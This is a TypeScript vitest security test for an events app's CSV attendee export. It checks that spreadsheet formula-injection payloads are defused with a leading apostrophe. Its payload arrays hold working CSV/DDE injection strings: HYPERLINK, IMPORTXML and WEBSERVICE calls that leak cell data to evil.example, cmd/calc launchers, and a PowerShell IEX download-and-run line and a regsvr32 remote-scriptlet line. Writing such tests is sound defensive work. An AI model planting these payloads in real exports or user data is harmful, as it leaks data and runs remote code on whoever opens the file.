/**
 * Security suite 12 (CSV), export side: GET /api/events/{id}/attendees-export as an admin, with
 * attendee names, emails, the ticket label, custom-attribute answers and labels drawn from a corpus
 * of formula payloads. The CSV is parsed per RFC 4180 (quoted cells, doubled quotes, CR LF inside
 * quotes) and every payload cell must come back as an apostrophe plus the payload, unchanged
 * otherwise; no cell anywhere in the file may start a formula.
 *
 * The rule (worker/events/attendees-csv.ts): a cell is defused when it starts with = + - @, the
 * full-width ＝ ＋ － ＠, a tab, a CR or a NUL — or when one of those signs follows leading
 * whitespace. Excel keeps " =1+1" as text, but other importers (and users pasting) trim first,
 * so leading whitespace does not make a formula safe. Ordinary values (an email, "1+1", "a=b")
 * are left exactly as they are. Imports (the other half of suite 12) do not exist yet.
 */
import { beforeAll, describe, expect, it } from 'vitest'
import { eventAttendees, eventOrders } from '@worker/db/schema'
import { createEvent } from '../../helpers/event-factories'
import { db, signedInAs } from '../../helpers/factories'
import { call, type Session } from '../../helpers/http'
import { reportFigure } from './support/figure'

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const BODIES = [
  'HYPERLINK("http://evil.example/?leak="&A1&B1,"Click for your ticket")',
  "cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget http://evil.example/p.ps1)'!A0",
  "SUM(1+1)*cmd|' /C calc'!A0",
  'SUM(1+1)',
  '1+1',
  '2+3',
  'IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'DDE("cmd";"/C calc";"!A0")',
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''",
  "rundll32|'URL.dll,FileProtocolHandler calc.exe'!A1",
  'IMPORTDATA("http://evil.example/x.csv")',
  'IMAGE("http://evil.example/pixel.png")',
  'HYPERLINK("javascript:alert(1)","x")',
  'A1 "quoted" , comma, ""doubled""',
  'line one\nline two',
  'crlf\r\n=2+2 inside',
  '',
]
/** Whitespace before the sign: defused too (see the rule above). */
const LEADING = [
  ' =1+1',
  '   =HYPERLINK("http://evil.example","x")',
  '\u00a0=1+1',
  '\u3000\uFF1D1+1',
  '\n=1+1',
  '\r\n@SUM(1+1)',
  ' \t+1+1',
  '\v-2+3',
  "\f=cmd|' /C calc'!A0",
  ' \0=1',
]
const PAYLOADS = [...TRIGGERS.flatMap((t) => BODIES.map((b) => t + b)), ...LEADING]
/** Ordinary values that must come back exactly as written, with no apostrophe. */
const BENIGN = [
  "Ann O'Neil",
  'café "Le Zinc", Paris',
  '1+1',
  'a=b',
  'x@example.com',
  'multi\r\nline',
  "'already quoted",
]

/** RFC 4180: cells separated by commas, rows by CR LF; a quoted cell may hold commas, CR LF and "". */
const parseCsv = (text: string) => {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  let i = 0
  while (i < text.length) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i += 2
        continue
      }
      if (ch === '"') quoted = false
      else cell += ch
      i += 1
      continue
    }
    if (ch === '"' && cell === '') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i += 1
    } else if (ch === '"' || ch === '\r' || ch === '\n') throw new Error(`malformed CSV at ${i}`)
    else cell += ch
    i += 1
  }
  if (quoted) throw new Error('unterminated quoted cell')
  if (cell !== '' || row.length > 0) throw new Error('last row without CR LF')
  return rows
}

/** Written independently of the worker's rule: would a spreadsheet start a formula here? */
const startsFormula = (cell: string) =>
  /^[\t\r\0]/.test(cell) || /^[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell.replace(/^[\s\0]+/, ''))

let payloadCells = 0
let unescaped = 0
let checkedCells = 0

reportFigure(
  'CSV export (suite 12)',
  () =>
    `${PAYLOADS.length} formula payloads, ${payloadCells} payload cells, ${unescaped} unescaped formula cells ` +
    `(${checkedCells} cells scanned)`,
)

describe('GET /api/events/{id}/attendees-export with formula payloads', () => {
  const TICKET = '=HYPERLINK("http://evil.example/t","Ticket")'
  const LABELS = ['Diet', '=HYPERLINK("http://evil.example","Size")', '@Extras']
  const at = (i: number) => PAYLOADS[i % PAYLOADS.length]!
  /** One attendee per payload (name), the next payloads in its email and answers; then benign rows. */
  const people = [
    ...PAYLOADS.map((_, i) => ({
      fullName: at(i),
      email: at(i + 1),
      text: at(i + 2),
      select: at(i + 3),
      check: [at(i + 4), at(i + 5)],
      payload: true,
    })),
    ...BENIGN.map((value) => ({
      fullName: value,
      email: value,
      text: value,
      select: value,
      check: [value],
      payload: false,
    })),
  ]
  let session: Session
  let response: Awaited<ReturnType<typeof call>>
  let slug = ''
  let rows: string[][] = []
  let references: string[] = []

  beforeAll(async () => {
    session = (await signedInAs('admin')).session
    const { event, tickets } = await createEvent(
      {
        customAttrs: [
          { key: 'diet', label: LABELS[0]!, type: 'text', options: [] },
          { key: 'size', label: LABELS[1]!, type: 'select', options: [] },
          { key: 'extras', label: LABELS[2]!, type: 'checkboxes', options: [] },
        ],
      },
      [{ label: TICKET }],
    )
    const ticketId = tickets[0]!.id
    const now = new Date().toISOString()
    references = people.map(() => crypto.randomUUID())
    const [firstOrder, ...moreOrders] = people.map((p, i) =>
      db
        .insert(eventOrders)
        .values({
          reference: references[i]!,
          eventId: event.id,
          ticketId,
          status: 'purchased',
          totalTickets: 1,
          paymentMethod: 'free',
          purchasedAt: now,
          attrs: {
            attr_text: { diet: p.text },
            attr_select: { size: p.select },
            attr_check: { extras: p.check },
          },
        })
        .returning({ id: eventOrders.id }),
    )
    const orders = await db.batch([firstOrder!, ...moreOrders])
    const orderIds = orders.map((r) => r[0]!.id)
    const [head, ...rest] = people.map((p, i) =>
      db.insert(eventAttendees).values({
        eventId: event.id,
        orderId: orderIds[i]!,
        ticketId,
        fullName: p.fullName,
        email: p.email,
      }),
    )
    await db.batch([head!, ...rest])

    slug = event.slug
    response = await call(`/api/events/${event.id}/attendees-export`, { session })
    const csv = typeof response.body === 'string' ? response.body : JSON.stringify(response.body)
    rows = parseCsv(csv)
  }, 60_000)

  it('downloads the CSV as a file', () => {
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toBe(
      `attachment; filename="attendees-${slug}.csv"`,
    )
  })

  it('has the expected header, its formula-like labels defused', () => {
    expect(rows[0]).toEqual([
      'Name',
      'Email',
      'Ticket',
      'Order',
      'Booked at',
      'Attended',
      'Diet',
      `'${LABELS[1]}`,
      `'${LABELS[2]}`,
    ])
    payloadCells += 2
  })

  it('has one row per attendee, in order', () => {
    expect(rows.length - 1).toBe(people.length)
    expect(rows.slice(1).map((r) => r[3])).toEqual(references)
    expect(rows.every((r) => r.length === 9)).toBe(true)
  })

  it('gives back every payload cell as an apostrophe plus the payload, unchanged otherwise', () => {
    const mismatches: string[] = []
    people.forEach((p, i) => {
      const row = rows[i + 1]!
      const expected = (value: string) => (p.payload ? `'${value}` : value)
      const cells: [string, string][] = [
        [row[0]!, expected(p.fullName)],
        [row[1]!, expected(p.email)],
        [row[2]!, `'${TICKET}`],
        [row[6]!, expected(p.text)],
        [row[7]!, expected(p.select)],
        [row[8]!, expected(p.check.join('; '))],
      ]
      for (const [got, want] of cells) {
        if (got !== want)
          mismatches.push(`row ${i + 1}: ${JSON.stringify(got)} ≠ ${JSON.stringify(want)}`)
        if (want.startsWith("'") && (p.payload || want === `'${TICKET}`)) payloadCells += 1
      }
    })
    expect(mismatches).toEqual([])
  })

  it('leaves ordinary values exactly as written', () => {
    const benign = rows.slice(1 + PAYLOADS.length)
    expect(benign.map((r) => r[0])).toEqual(BENIGN)
    expect(benign.map((r) => r[6])).toEqual(BENIGN)
  })

  it('has no cell anywhere that starts a formula', () => {
    const found: string[] = []
    for (const row of rows)
      for (const cell of row) {
        checkedCells += 1
        if (startsFormula(cell)) found.push(JSON.stringify(cell))
      }
    unescaped = found.length
    expect(found).toEqual([])
  })
})
